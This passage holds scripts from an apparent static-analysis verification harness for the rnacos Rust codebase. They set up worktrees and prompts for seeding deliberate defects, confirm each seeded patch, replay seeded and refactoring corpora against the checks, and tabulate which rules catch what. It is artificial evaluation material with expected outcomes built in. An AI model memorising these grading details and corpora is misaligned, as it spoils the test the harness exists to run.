 "(`cargo build --offline`, then per node i: env RNACOS_HTTP_PORT=2884i RNACOS_GRPC_PORT=2994i RNACOS_HTTP_CONSOLE_PORT=2885i RNACOS_RAFT_NODE_ID=i "
 "RNACOS_RAFT_NODE_ADDR=127.0.0.1:2994i [RNACOS_RAFT_JOIN_ADDR=127.0.0.1:29941 for i>1] RNACOS_DATA_DIR=<dir>/di target/debug/rnacos; "
 "GET /nacos/v1/raft/metrics shows leader and membership; RNACOS_RAFT_SNAPSHOT_LOG_SIZE lowers the compaction threshold). Use ports that contain your "
 "worktree number to avoid clashes with other people on this machine: replace 28/29 by {PORTBASE}. A unit-level test driving the real actors is still preferred; "
 "if only an end-to-end script can show the defect, deliver it as `d<n>_demo.sh` with its output instead of `d<n>_test.diff`.\n")
for pid in sys.argv[1:]:
    wt='/tmp/wt/H'+pid
    if not os.path.isdir(wt):
        subprocess.check_call(['git','-C','/repo','worktree','add','--detach','-q',wt,'HEAD'])
        subprocess.check_call(['cp','/repo/Cargo.lock',wt+'/'])
        subprocess.check_call(['rsync','-a','--exclude','incremental/','--exclude','deps/rnacos-*','--exclude','deps/librnacos-*','--exclude','deps/lib-*','/repo/target/',wt+'/target/'])
    k=known.get(pid,[])
    kb='Already known for this property (do not report these again; look elsewhere):\n'+'\n'.join(' - '+x for x in k) if k else ''
    n=int(pid[1:])
    s=tpl.replace('{WT}',wt).replace('{KNOWN}',kb+extra.replace('{PORTBASE}',str(30+n))).replace('{PROP}',json.dumps(props[pid],indent=1))
    open('/tmp/wt/prompt_H%s.txt'%pid,'w').write(s)
    print(pid,len(s),len(k))
