#!/bin/bash
# fresh scratch copy of /repo HEAD at /tmp/scratch (keeps /tmp/scratch_target)
rm -rf /tmp/scratch; mkdir -p /tmp/scratch
git -C /repo archive HEAD | tar -x -C /tmp/scratch
cp /repo/Cargo.lock /tmp/scratch/
cd /tmp/scratch && git init -q && git add -A && git -c user.email=a@b -c user.name=x commit -qm base
