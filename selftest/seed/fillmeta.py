import json,sys,re
name,caught,before,note=sys.argv[1],json.loads(sys.argv[2]),sys.argv[3]=='yes',sys.argv[4]
p='/verif/seeded/%s/meta.json'%name
m=json.load(open(p))
rd=open('/verif/seeded/%s/README.md'%name).read()
if not m.get('summary'):
    m['summary']=re.sub(r'\s+',' ',rd)[:700]
m['needs']=m.get('needs') or 'see README.md section 2 (agent write-up kept verbatim)'
m['caught_by']=caught; m['caught_before_strengthening']=before; m['note']=note
m['confirmed']='selftest/seed/confirm.sh in the agent worktree: clean+demo passes, patch+demo fails, patch alone 36 passed + 1 known failure'
m['ran']='bin/seedcheck_scratch.sh seeded/%s/patch.diff all (first_run.txt = rule set as it stood)'%name
m["round"]=int(name.split("-r")[1])
json.dump(m,open(p,'w'),indent=1)
print(name,'ok')
