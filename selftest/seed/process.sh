#!/bin/bash
# process.sh <worktree-name e.g. S4C02>: confirm the delivery and run all 20 checks against a scratch copy with patch.diff applied
N="$1"; WT=/tmp/wt/$N
{
/verif/selftest/seed/confirm.sh $WT 2>&1 | tail -12
echo "--- checks with patch.diff applied (all properties) ---"
/verif/bin/seedcheck_scratch.sh $WT/seed/patch.diff all 2>&1 | grep -vE "^C[0-9]+: .* 0 new violations|^KNOWN-FINDING" 
} > /tmp/wt/$N.result 2>&1
echo "$N done"; grep -E "^CONFIRM|VIOLATION|^R[0-9]" /tmp/wt/$N.result | cut -c1-300
