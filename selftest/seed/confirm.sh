#!/bin/bash
# confirm.sh <worktree> [demo filter]: re-run a delivered seeded change in the agent's worktree.
#  clean+demo -> demo passes; +patch -> demo fails; patch alone -> suite = 36 passed + 1 known failure.
set -u
WT="$1"; FILTER="${2:-seeded_demo}"
cd "$WT" || exit 2
export CARGO_NET_OFFLINE=true
clean() { git checkout -q -- . ; git clean -fdq -- src tests 2>/dev/null; }
clean
git apply seed/demo.diff || { echo "CONFIRM: demo.diff does not apply"; exit 3; }
out=$(cargo test --offline --lib "$FILTER" 2>&1 | grep -E "^test result|^test .*(ok|FAILED)$" ); echo "$out" | tail -4
echo "$out" | grep -q "test result: ok. [1-9]" && A=pass || A=FAIL
git apply seed/patch.diff || { echo "CONFIRM: patch.diff does not apply on demo"; clean; exit 3; }
out=$(cargo test --offline --lib "$FILTER" 2>&1 | grep -E "^test result|^test .*(ok|FAILED)$|error(\[|:)" ); echo "$out" | tail -4
echo "$out" | grep -q "test result: FAILED" && B=fail || B=NOFAIL
clean
git apply seed/patch.diff
out=$(cargo test --offline --lib 2>&1 | grep -E "^test result|^warning: unused|^error" ); echo "$out" | tail -3
echo "$out" | grep -q "36 passed; 1 failed" && C=suite36 || C=SUITE-CHANGED
clean
echo "CONFIRM $WT: clean+demo=$A patch+demo=$B patch-alone=$C"
