#!/usr/bin/env python3
"""takeover.py <worktree> <name> <property>: copy a confirmed seeded change into /verif/seeded/<name>/ with a meta.json skeleton
(summary / needs are taken from the agent's README.md sections 1 and 2; caught_by is filled in by hand after seedcheck)."""
import sys, os, re, json, shutil, subprocess
wt, name, pid = sys.argv[1:4]
dst = '/verif/seeded/' + name
os.makedirs(dst, exist_ok=True)
for f in ('patch.diff', 'demo.diff', 'README.md', 'observations.md'):
    if os.path.exists(wt + '/seed/' + f):
        shutil.copy(wt + '/seed/' + f, dst + '/' + f)
readme = open(wt + '/seed/README.md').read()
files = sorted(set(re.findall(r'^\+\+\+ b/(\S+)', open(dst + '/patch.diff').read(), re.M)))
dfiles = sorted(set(re.findall(r'^\+\+\+ b/(\S+)', open(dst + '/demo.diff').read(), re.M)))
meta = {'property': pid, 'summary': '', 'needs': '', 'demo_cmd': 'cargo test --offline --lib seeded_demo', 'files': files,
        'demo_files': dfiles, 'caught_by': {}, 'caught_before_strengthening': None, 'note': '', 'confirmed': '', 'ran': ''}
if os.path.exists(dst + '/meta.json'):
    meta.update(json.load(open(dst + '/meta.json')))
json.dump(meta, open(dst + '/meta.json', 'w'), indent=1)
print(dst, files, dfiles)
