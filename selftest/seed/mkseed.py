#!/usr/bin/env python3
"""mkseed.py <round> <Cxx>... : creates /tmp/wt/S<round><Cxx> (git worktree of /repo HEAD + private copy of target/) and the prompt file
/tmp/wt/prompt_S<round><Cxx>.txt. The prompt carries the property record and one line per earlier seeded change of that property
("choose another function and mechanism") - nothing else of /verif."""
import json, sys, os, glob, subprocess
props = {}
for l in open('/verif/properties.jsonl'):
    d = json.loads(l); props[d['id']] = d
HERE = os.path.dirname(os.path.abspath(__file__))
tpl = open(os.path.join(HERE, 'SEED_PROMPT.txt')).read()
rnd = sys.argv[1]
os.makedirs('/tmp/wt', exist_ok=True)
for pid in sys.argv[2:]:
    wt = '/tmp/wt/S%s%s' % (rnd, pid)
    earlier = []
    for m in sorted(glob.glob('/verif/seeded/%s-*/meta.json' % pid)):
        s = json.load(open(m))['summary']
        earlier.append(s[:230].replace('\n', ' '))
    avoid = 'Earlier contributors to this exercise already used the following sites for this property; choose a DIFFERENT function and a different mechanism:\n' + '\n'.join('     * ' + e + ' ...' for e in earlier) if earlier else ''
    if not os.path.isdir(wt):
        subprocess.check_call(['git', '-C', '/repo', 'worktree', 'add', '--detach', '-q', wt, 'HEAD'])
        subprocess.check_call(['cp', '/repo/Cargo.lock', wt + '/']) if os.path.exists('/repo/Cargo.lock') and not os.path.exists(wt + '/Cargo.lock') else None
        subprocess.check_call(['rsync', '-a', '--exclude', 'incremental/', '--exclude', 'deps/rnacos-*', '--exclude', 'deps/librnacos-*', '--exclude', 'deps/lib-*', '/repo/target/', wt + '/target/'])
    s = tpl.replace('{WT}', wt).replace('{AVOID}', avoid).replace('{PROP}', json.dumps(props[pid], indent=1))
    open('/tmp/wt/prompt_S%s%s.txt' % (rnd, pid), 'w').write(s)
    print(pid, wt, len(s))
