#!/bin/bash
# replay every seeded change on a scratch copy and verify that each rule named in meta.json caught_by still reports it
cd /verif
for d in seeded/*/; do
  n=$(basename $d)
  python3 - "$d" > /tmp/seedcheck_all.$$ <<'EOF'
import json,sys
m=json.load(open(sys.argv[1]+'meta.json'))
cb=m.get('caught_by') or {}
print(' '.join(sorted(cb)))
print(' '.join(sorted(set(r for v in cb.values() for r in v))))
EOF
  props=$(sed -n 1p /tmp/seedcheck_all.$$); rules=$(sed -n 2p /tmp/seedcheck_all.$$)
  if [ -z "$props" ]; then echo "$n: skipped (obsolete)"; continue; fi
  out=$(bin/seedcheck_scratch.sh $d/patch.diff $props 2>&1)
  miss=""
  for r in $rules; do echo "$out" | grep -q "^$r:" || miss="$miss $r"; done
  if echo "$out" | grep -q "patch does not apply"; then echo "$n: DOES-NOT-APPLY"; elif [ -z "$miss" ]; then echo "$n: caught ($rules)"; else echo "$n: MISSED$miss"; fi
done
rm -f /tmp/seedcheck_all.$$
