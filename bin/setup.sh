#!/bin/bash
# Build the rnfacts driver and warm the dependency metadata (offline, files on disk only).
set -euo pipefail
VERIF="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
export CARGO_NET_OFFLINE=true
mkdir -p "$VERIF/.cache" "$VERIF/evidence"
(cd "$VERIF/driver" && CARGO_TARGET_DIR="$VERIF/.cache/driver-target" cargo build --offline)
# first extraction = cold `cargo +nightly check` of the dependency graph (about 1-2 min), later ones take ~25 s
"$VERIF/bin/extract.sh" /repo >/dev/null
echo "setup ok"
