#!/bin/bash
# census_eval.sh <diff>... : apply each diff to an archive copy of /repo HEAD and list the census differences (evaluation of the census rule on the
# seeded corpus = wanted alarms, on the refactoring corpus = false alarms)
cd /verif
for P in "$@"; do
  P=$(readlink -f "$P")
  D=$(mktemp -d /tmp/censcratch.XXXXXX)
  git -C /repo archive HEAD | tar -x -C "$D"; [ -f /repo/Cargo.lock ] && cp /repo/Cargo.lock "$D"/
  if ( cd "$D" && git init -q . >/dev/null 2>&1; git -C "$D" apply "$P" ) 2>/dev/null; then
    OUT=$(./check all --repo "$D" --census-only 2>&1 | grep -E "^CENSUS" | cut -c1-260)
    N=$(echo "$OUT" | grep -c "^CENSUS (gone|narrowed)" -E)
    M=$(echo "$OUT" | grep -c "^CENSUS (new|widened)" -E)
    echo "== $P: gone/narrowed=$N new/widened=$M"; echo "$OUT" | head -12
  else
    echo "== $P: does not apply"
  fi
  rm -rf "$D"
done
