#!/bin/bash
# apply every behaviour-preserving refactor of /verif/refactors to /repo in turn, run all checks, expect silence
cd /verif
exec 9>/tmp/verif-repo.lock; flock 9
for P in refactors/*/r*.diff; do
  if ! git -C /repo diff --quiet; then echo "repo dirty"; exit 3; fi
  git -C /repo apply /verif/$P || { echo "$P: does not apply"; continue; }
  OUT=$(./check all --no-write 2>&1 | grep -E "^(R[0-9]+[a-z]:|extraction|anchor)" | cut -c1-200)
  git -C /repo checkout -- .
  if [ -z "$OUT" ]; then echo "$P: silent"; else echo "$P: ALARM"; echo "$OUT"; fi
done
