#!/bin/bash
# run a command while holding the /repo working-tree lock (shared with seedcheck.sh, refcheck_all.sh, run_mutants.py)
exec flock /tmp/verif-repo.lock "$@"
