#!/bin/bash
# refcheck_scratch.sh <refactor.diff>... : apply each behaviour-preserving refactoring to an archive copy of /repo HEAD, run all checks, expect silence
cd /verif
for P in "$@"; do
  P=$(readlink -f "$P")
  D=$(mktemp -d /tmp/refscratch.XXXXXX)
  git -C /repo archive HEAD | tar -x -C "$D"; [ -f /repo/Cargo.lock ] && cp /repo/Cargo.lock "$D"/
  if ( cd "$D" && git init -q . >/dev/null 2>&1; git -C "$D" apply "$P" ) 2>/dev/null; then
    OUT=$(./check all --repo "$D" --no-write 2>&1 | grep -E "^(R[0-9]+[a-z]:|extraction|anchor)" | cut -c1-200)
    if [ -z "$OUT" ]; then echo "$P: silent"; else echo "$P: ALARM"; echo "$OUT"; fi
  else
    echo "$P: does not apply"
  fi
  rm -rf "$D"
done
