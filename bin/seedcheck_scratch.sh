#!/bin/bash
# seedcheck_scratch.sh <patch.diff> <id>... : like seedcheck.sh but on an rsync'd scratch copy of /repo (does not touch /repo; safe to run
# while another job holds /repo's working tree). The scratch copy is removed afterwards.
set -u
P="$(readlink -f "$1")"; shift
D=$(mktemp -d /tmp/seedscratch.XXXXXX)
trap 'rm -rf "$D"' EXIT
git -C /repo archive HEAD | tar -x -C "$D"; [ -f /repo/Cargo.lock ] && cp /repo/Cargo.lock "$D"/
( cd "$D" && git init -q . >/dev/null 2>&1; git -C "$D" apply "$P" ) || { echo "patch does not apply"; exit 3; }
cd /verif
./check "$@" --repo "$D" --no-write | grep -E "^(VIOLATION|KNOWN|R[0-9]+[a-z]:|C[0-9]+:|extraction)" | cut -c1-260
exit 0
