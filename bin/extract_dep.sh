#!/bin/bash
# Extract the fact base of ONE dependency crate as /repo's build resolves and compiles it (same features, same cfg).
#   extract_dep.sh [repo_dir] [crate_name]   -> prints the directory holding <crate_name>-lib.json
# Used for the Raft core (async_raft_ext): two clauses of C06 are decided by code that lives there, not in the rnacos crate.
# Cached under /verif/.cache/depfacts/<key>, key = hash(Cargo.toml, Cargo.lock, the dependency's resolved source files, driver binary).
set -euo pipefail
VERIF="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
REPO="${1:-/repo}"
CRATE="${2:-async_raft_ext}"
CACHE="$VERIF/.cache"
DRV="$CACHE/driver-target/debug/rnfacts"
export CARGO_NET_OFFLINE=true
mkdir -p "$CACHE/depfacts"
if [ ! -x "$DRV" ]; then
  (cd "$VERIF/driver" && CARGO_TARGET_DIR="$CACHE/driver-target" cargo build --offline >&2)
fi
PKG="${CRATE//_/-}"
# where cargo resolves the package from (registry copy, or a path / patch inside the repository)
SRC=$(cd "$REPO" && cargo metadata --offline --format-version 1 2>/dev/null | python3 -c "
import sys, json, os
m = json.load(sys.stdin)
for p in m['packages']:
    if p['name'] == '$PKG':
        print(os.path.dirname(p['manifest_path'])); break
")
if [ -z "$SRC" ] || [ ! -d "$SRC" ]; then echo "extract_dep: package $PKG not found in the dependency graph of $REPO" >&2; exit 2; fi
KEY=$( (cd "$SRC" && find . -type f \( -name '*.rs' -o -name 'Cargo.toml' \) -not -path './target/*' -print0 | sort -z | xargs -0 sha1sum; cd "$REPO" && sha1sum Cargo.toml Cargo.lock 2>/dev/null; sha1sum "$DRV" | cut -d' ' -f1) | sha1sum | cut -c1-20)
OUT="$CACHE/depfacts/$KEY"
if [ -s "$OUT/$CRATE-lib.json" ] && [ -f "$OUT/.ok" ]; then echo "$OUT"; exit 0; fi
exec 9>"$CACHE/extract_dep.lock"
flock 9
if [ -s "$OUT/$CRATE-lib.json" ] && [ -f "$OUT/.ok" ]; then echo "$OUT"; exit 0; fi
rm -rf "$OUT"; mkdir -p "$OUT"
TGT="$CACHE/target-dep"
rm -rf "$TGT"/debug/.fingerprint/"$PKG"-* 2>/dev/null || true
LOG="$OUT/cargo.log"
if ! (cd "$REPO" && LD_LIBRARY_PATH="$(rustc +nightly --print sysroot)/lib" RNFACTS_OUT="$OUT" RNFACTS_CRATE="$CRATE" \
      RUSTFLAGS="-Zmir-opt-level=0 -Awarnings" CARGO_PROFILE_DEV_DEBUG=0 CARGO_INCREMENTAL=0 \
      RUSTC_WRAPPER="$DRV" CARGO_TARGET_DIR="$TGT" \
      cargo +nightly check --offline --lib -p rnacos >"$LOG" 2>&1); then
  echo "extract_dep: cargo check failed, see $LOG" >&2; tail -30 "$LOG" >&2; exit 2
fi
if [ ! -s "$OUT/$CRATE-lib.json" ]; then echo "extract_dep: fact file missing after cargo check (wrapper skipped?), see $LOG" >&2; exit 2; fi
echo "$SRC" > "$OUT/source_dir"
touch "$OUT/.ok"
ls -1dt "$CACHE"/depfacts/*/ 2>/dev/null | tail -n +5 | xargs -r rm -rf
echo "$OUT"
