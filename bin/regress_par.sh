#!/bin/bash
# regress_par.sh [lanes] : replay the false-alarm corpus (refactors/*/r*.diff, expect silence) and the seeded corpus (seeded/*/patch.diff, expect
# one of the rules recorded in meta.json caught_by) on archive copies of /repo HEAD, <lanes> at a time (default 6). Never touches /repo.
# Output: one line per diff in /tmp/regress_par.out, summary at the end. Not part of any registered check.
cd /verif
LANES=${1:-6}
OUT=/tmp/regress_par.out; : > $OUT
JOBS=$(mktemp)
for P in refactors/*/r*.diff; do echo "ref $P all" >> $JOBS; done
for d in seeded/*/; do
  n=$(basename $d); [ -f $d/patch.diff ] || continue
  props=$(python3 -c "import json;m=json.load(open('$d/meta.json'));print(','.join(sorted(m.get('caught_by') or {})) or m['property'])")
  echo "seed $d/patch.diff $props" >> $JOBS
done
one() {
  kind=$1; P=$(readlink -f $2); props=${3//,/ }; lane=$4
  D=$(mktemp -d /tmp/regpar.XXXXXX)
  git -C /repo archive HEAD | tar -x -C "$D"; [ -f /repo/Cargo.lock ] && cp /repo/Cargo.lock "$D"/
  if ( cd "$D" && git init -q . >/dev/null 2>&1; git -C "$D" apply "$P" ) 2>/dev/null; then
    R=$(RNFACTS_LANE=$lane ./check $props --repo "$D" --no-write 2>&1 | grep -E "^(R[0-9]+[a-z]+:|extraction|anchor|Traceback)" | cut -d: -f1 | sort -u | tr '\n' ' ')
    case "$R" in *extraction*) R=$(RNFACTS_LANE=$lane ./check $props --repo "$D" --no-write 2>&1 | grep -E "^(R[0-9]+[a-z]+:|extraction|anchor|Traceback)" | cut -d: -f1 | sort -u | tr '\n' ' ');; esac
    echo "$kind $2 :: ${R:-silent}"
  else
    echo "$kind $2 :: DOES-NOT-APPLY"
  fi
  rm -rf "$D"
}
export -f one
nl -ba $JOBS | while read n kind p props; do echo "$kind $p $props $(( (n % LANES) + 1 ))"; done | xargs -P $LANES -L 1 bash -c 'one "$@"' _ >> $OUT 2>&1
rm -f $JOBS
python3 - <<'P'
import json,re,os
bad=0
for l in open('/tmp/regress_par.out'):
    l=l.strip()
    if ' :: ' not in l: continue
    head,res=l.split(' :: ',1); kind,path=head.split()[:2]
    if kind=='ref':
        if res!='silent': print('FALSE ALARM',path,res); bad+=1
    else:
        d=os.path.dirname(path); m=json.load(open(os.path.join('/verif',d,'meta.json')))
        want=set(sum((m.get('caught_by') or {}).values(),[]))
        got=set(res.split()) if res not in('silent','DOES-NOT-APPLY') else set()
        if res=='DOES-NOT-APPLY': print('STALE',path)
        elif want and not (want & got): print('MISSED',path,'want',sorted(want),'got',sorted(got)); bad+=1
        elif not want and not got: print('UNCAUGHT (declared)',path)
print('regress_par: %d problems'%bad)
P
