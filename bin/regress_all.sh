#!/bin/bash
# regress_all.sh : every refactoring (expect silence) and every seeded change (expect the recorded rules) on archive copies of /repo HEAD,
# each with the census differences next to it. Output: /tmp/regress_ref.out, /tmp/regress_seed.out
cd /verif
: > /tmp/regress_ref.out; : > /tmp/regress_seed.out
one() {  # $1 = diff, $2 = props ("all" or list)
  D=$(mktemp -d /tmp/regscratch.XXXXXX)
  git -C /repo archive HEAD | tar -x -C "$D"; [ -f /repo/Cargo.lock ] && cp /repo/Cargo.lock "$D"/
  if ( cd "$D" && git init -q . >/dev/null 2>&1; git -C "$D" apply "$1" ) 2>/dev/null; then
    RULES=$(./check $2 --repo "$D" --no-write 2>&1 | grep -E "^(R[0-9]+[a-z]+:|extraction|anchor)" | cut -c1-160)
    CEN=$(./check all --repo "$D" --census-only 2>&1 | grep -E "^CENSUS" | cut -c1-240)
    echo "APPLIES"; echo "$RULES"; echo "$CEN"
  else
    echo "DOES-NOT-APPLY"
  fi
  rm -rf "$D"
}
if [ "${1:-all}" != "seeds" ]; then
for P in refactors/*/r*.diff; do
  echo "== $P" >> /tmp/regress_ref.out; one "$(readlink -f $P)" all >> /tmp/regress_ref.out 2>&1
done
fi
for d in seeded/*/; do
  n=$(basename $d)
  props=$(python3 -c "import json,sys;m=json.load(open('$d/meta.json'));print(' '.join(sorted(m.get('caught_by') or {})) or m['property'])")
  echo "== $n ($props)" >> /tmp/regress_seed.out; one "$(readlink -f $d/patch.diff)" "$props" >> /tmp/regress_seed.out 2>&1
done
echo finished >> /tmp/regress_seed.out
