#!/usr/bin/env python3
"""Print the markdown table of DESIGN.md section 8.1 from seeded/*/meta.json."""
import json, glob, os
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
print('| seed | property | change (one line) | reported by | caught by the rule set as it stood |')
print('|------|----------|-------------------|-------------|------------------------------------|')
for mp in sorted(glob.glob(os.path.join(HERE, 'seeded', '*', 'meta.json'))):
    m = json.load(open(mp))
    name = os.path.basename(os.path.dirname(mp))
    cb = '; '.join('%s: %s' % (k, ','.join(v)) for k, v in sorted((m.get('caught_by') or {}).items())) or 'NOT CAUGHT'
    if m.get('obsolete_since'):
        cb = 'obsolete on HEAD (no longer a violation): ' + m['obsolete_since'][:60]
    one = m.get('one_line') or m['summary'].split('. ')[0][:170]
    print('| %s | %s | %s | %s | %s |' % (name, m.get('property', name[:3]), one.replace('|', '/'), cb,
                                         'yes' if m.get('caught_before_strengthening') else 'no - ' + (m.get('note') or '')[:160].replace('|', '/')))
