#!/bin/bash
# Extract the fact base for the *current working tree* of a repository copy.
#   extract.sh [repo_dir] [features]      -> prints the directory holding rnacos-lib.json / rnacos-bin.json
# Facts are cached under /verif/.cache/facts/<key>, key = hash(tracked+untracked sources, driver binary, features).
set -euo pipefail
VERIF="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
REPO="${1:-/repo}"
FEATURES="${2:-}"
CACHE="$VERIF/.cache"
DRV="$CACHE/driver-target/debug/rnfacts"
export CARGO_NET_OFFLINE=true
mkdir -p "$CACHE/facts"

if [ ! -x "$DRV" ]; then
  (cd "$VERIF/driver" && CARGO_TARGET_DIR="$CACHE/driver-target" cargo build --offline >&2)
fi

# key over everything the compiler reads from the repository (sources, manifests, build scripts)
KEY=$( (cd "$REPO" && { find src -type f \( -name '*.rs' -o -name '*.proto' \) -print0 | sort -z | xargs -0 sha1sum; sha1sum Cargo.toml Cargo.lock 2>/dev/null; find . -maxdepth 1 -name build.rs -exec sha1sum {} \; ; }; sha1sum "$DRV" | cut -d' ' -f1; echo "features=$FEATURES") | sha1sum | cut -c1-20)
OUT="$CACHE/facts/$KEY"
if [ -s "$OUT/rnacos-lib.json" ] && [ -s "$OUT/rnacos-bin.json" ] && [ -f "$OUT/.ok" ]; then
  echo "$OUT"; exit 0
fi

# RNFACTS_LANE=<n>: an independent target directory and lock, so that several scratch copies can be extracted at the same time
# (regression runs over the seeded / refactoring corpora); the registered checks never set it
LANE="${RNFACTS_LANE:-}"
exec 9>"$CACHE/extract${LANE:+-lane$LANE}.lock"
flock 9
if [ -s "$OUT/rnacos-lib.json" ] && [ -s "$OUT/rnacos-bin.json" ] && [ -f "$OUT/.ok" ]; then
  echo "$OUT"; exit 0
fi
rm -rf "$OUT"; mkdir -p "$OUT"
# target dir: the shared one for /repo, a per-copy one for scratch copies (dependency artefacts are shared via the same dir
# because cargo fingerprints path dependencies by absolute path only for workspace members)
TGT="$CACHE/target${LANE:+-lane$LANE}"
if [ -n "$LANE" ] && [ ! -d "$TGT" ] && [ -d "$CACHE/target" ]; then cp -a "$CACHE/target" "$TGT"; fi
# force the wrapper to run for the workspace member even on a warm target dir
rm -rf "$TGT"/debug/.fingerprint/rnacos-* 2>/dev/null || true
FEAT_ARGS=()
if [ -n "$FEATURES" ]; then FEAT_ARGS=(--features "$FEATURES"); fi
LOG="$OUT/cargo.log"
if ! (cd "$REPO" && LD_LIBRARY_PATH="$(rustc +nightly --print sysroot)/lib" RNFACTS_OUT="$OUT" \
      RUSTFLAGS="-Zmir-opt-level=0 -Awarnings" CARGO_PROFILE_DEV_DEBUG=0 CARGO_INCREMENTAL=0 \
      RUSTC_WORKSPACE_WRAPPER="$DRV" CARGO_TARGET_DIR="$TGT" \
      cargo +nightly check --offline --lib --bins -p rnacos "${FEAT_ARGS[@]}" >"$LOG" 2>&1); then
  echo "extract: cargo check failed, see $LOG" >&2
  tail -30 "$LOG" >&2
  exit 2
fi
if [ ! -s "$OUT/rnacos-lib.json" ] || [ ! -s "$OUT/rnacos-bin.json" ]; then
  echo "extract: fact files missing after cargo check (wrapper skipped?), see $LOG" >&2
  exit 2
fi
touch "$OUT/.ok"
# keep the cache small: drop all but the 6 most recent fact dirs
ls -1dt "$CACHE"/facts/*/ 2>/dev/null | tail -n +$([ -n "$LANE" ] && echo 200 || echo 7) | xargs -r rm -rf
echo "$OUT"
