#!/bin/bash
# seedcheck.sh <patch.diff> <id>... : apply a seeded change to /repo, run the given checks (no evidence written), undo it.
set -u
P="$(readlink -f "$1")"; shift
cd /verif
exec 9>/tmp/verif-repo.lock; flock 9   # one user of /repo's working tree at a time (seedcheck, refcheck_all, run_mutants)
if ! git -C /repo diff --quiet; then echo "repo dirty, refusing"; exit 3; fi
git -C /repo apply "$P" || { echo "patch does not apply"; exit 3; }
trap 'git -C /repo checkout -- . ; git -C /repo clean -fdq -- src 2>/dev/null' EXIT
rc=0
./check "$@" --no-write | grep -E "^(VIOLATION|KNOWN|R[0-9]+[a-z]:|C[0-9]+:|extraction)" | cut -c1-260
exit 0
