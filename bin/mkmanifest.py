#!/usr/bin/env python3
"""Regenerate /verif/MANIFEST.json from the table below (keeps it valid at all times)."""
import json, os, sys
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

TECH = 'static analysis: rustc_private MIR fact extraction + repository-specific rules (%s)'

CLAIMED = {
    'C01': ('snapshot-table routing evaluated exhaustively over the tree constants, fan-out completeness, open-mode classification '
            '(stream files truncated), start-up order on the call graph, codec field coverage, end-of-log detection predicate (truth table), namespace snapshot filter and marker record, start-up restore independent of the last-applied index, derived indexes current during replay, no field filled with a literal between live state and snapshot record, snapshot header read like any record, nothing served before the restore has finished',
            'routing walk under each table constant, who-calls-whom order, typestate of OpenOptions chains, field sets', '3 C01'),
    'C02': ('index-area writer/rewinder agreement (taint), validated end-of-data test, acknowledgement edge-dominated by the awaited '
            'write result, contiguity guard, no discarded Result on the append chain, catalogue paired with log-list changes',
            'taint + edge dominance + discard analysis + pairing; batch that fills the file, last term on reopen, durable split-off bound', '3 C02'),
    'C03': ('erasure of the removed data/index range on every success path of strip_log_to, rewind completeness against the write-set '
            'of write(), catalogue pairing, index-equality guard, recount honours count 0, cursors measured from the index entry of the cut point, adjacent-delta rewind, every listed log file is scanned, a new range never opens a left-over file, last_term re-derived after a truncation', 'must-pass-through + field sets + pairing', '3 C03'),
    'C04': ('write ordering (data before index, flush before Ok, snapshot publication order), single-writer ownership table, '
            'fresh-image layout, last-applied after apply, recovery scan counts on every exit (else zero terminator), header before preallocation of a fresh log file, exclusive bound of the snapshot unlink loop, recovery scans by index interval and can write a missing index slot', 'dominance / must-pass-through on MIR CFGs + who-may-call table', '3 C04'),
    'C05': ('save routing and funnel into write_index under ctx.wait, fresh-file threshold below the smallest record, exclusive '
            'ownership of catalogue fields, reader/writer field agreement of the DTO codec, membership/addresses of an installed snapshot reach the index file; the answer of a save is delivered after its queued write (actor future), no read of a field whose assignment is still scheduled, every change_membership caller writes a Members entry', 'pairing + constant comparison + field sets', '3 C05'),
    'C06': ('error discipline on the config commit chain only: no discarded Result from the route to Raft::client_write, every caller '
            'branches on the result, follower temp value only after the leader answered, follower apply path uses do_send only (no try_send / detached task); in the Raft core this tree resolves (async_raft_ext MIR): the replication state of a joined node reaches the set the commit decision reads, last_applied is not moved over unapplied entries', 'discard analysis + call graph + dominance', '3 C06'),
    'C07': ('the three hand-written dispatch copies reduced to per-variant normal forms (actor, message, variant, field mapping) and '
            'compared; last-applied recording; order preservation on the follower path; the node-local tmp mark is raised only on different content; derived indexes are current when a replayed request reads them', 'sibling cross-check over normal forms', '3 C07'),
    'C08': ('install path reaches the state-machine loader on the call graph (with actix message edges), header membership persisted, '
            'install file truncated, install order; membership saved on install comes from the installed header, not from a field still awaiting its scheduled assignment; in the Raft core: a needed snapshot is not gated by the periodic threshold', 'call-graph reachability + taint + dominance', '3 C08'),
    'C09': ('value map <-> listing index pairing, md5 provenance from get_md5 of the same content, unchanged-content short circuit guard, '
            'history bound, key separator round trip (decoded format templates), index size counter guard, listing total = counter incremented by 1 under both filters', 'pairing + taint + guard analysis', '3 C09'),
    'C10': ('change implies both notifications on every path, subscriber entries dropped only when empty after the member removal, atomic compare-and-register (synchronous handler, complementary edges), '
            'comparison shape, timeout driver re-arm, subscriber map mirroring; the full-value path (import entry, installed snapshot record) notifies unless an md5 comparison says unchanged', 'must-pass-through + guard analysis', '3 C10'),
    'C11': ('service map <-> namespace index pairing, empty-service guard, reverse map maintenance, counter co-update with sign and '
            'condition per Service mutator, reverse-set update keyed by the removed instance\'s owner', 'pairing + guard analysis + arithmetic shape', '3 C11'),
    'C12': ('ownership refusal path in remove_instance, disconnect passes the owner and spares persistent instances, query filter truth '
            'table (exhaustive), registration keeps its fields, lists handed to the protection-threshold filter fetched unfiltered; each reconciliation path (disconnect, distro diff, raft RemoveInstance) removes only the kind it owns; the healthy-only flag of a query command comes from the request; weight / enabled / ephemeral of a request reach the instance', 'guard analysis + exhaustive interpretation of the filter closure', '3 C12'),
    'C13': ('is_enable_timeout truth table (exhaustive), re-validation before expiry, arming whenever (and only when) the stored instance is subject to the clock, take-over makes the instance local, liveness fields never inherited from the stored record, driver chain', 'abstract interpretation + guard analysis', '3 C13'),
    'C14': ('position and modulus of the owner range computed over the same (valid) population as route_addr, same hasher, is_range truth '
            'table (exhaustive on a grid), range refresh after status change and its propagation to the naming actor\'s copy', 'taint + exhaustive interpretation + pairing', '3 C14'),
    'C15': ('THIN: dead-node client invalidation, an arm per sync message kind forwarding to the naming actor, local changes announced '
            'through the delay-notify batch, every client-set removal announced to the naming actor on every path, snapshots carry own instances only, the route carries the owner\'s node id; convergence itself is not decided', 'wiring checks on the call/message graph', '3 C15'),
    'C16': ('route table extracted from the registration DSL x middleware literal tables (exhaustive), middleware pass logic as a truth '
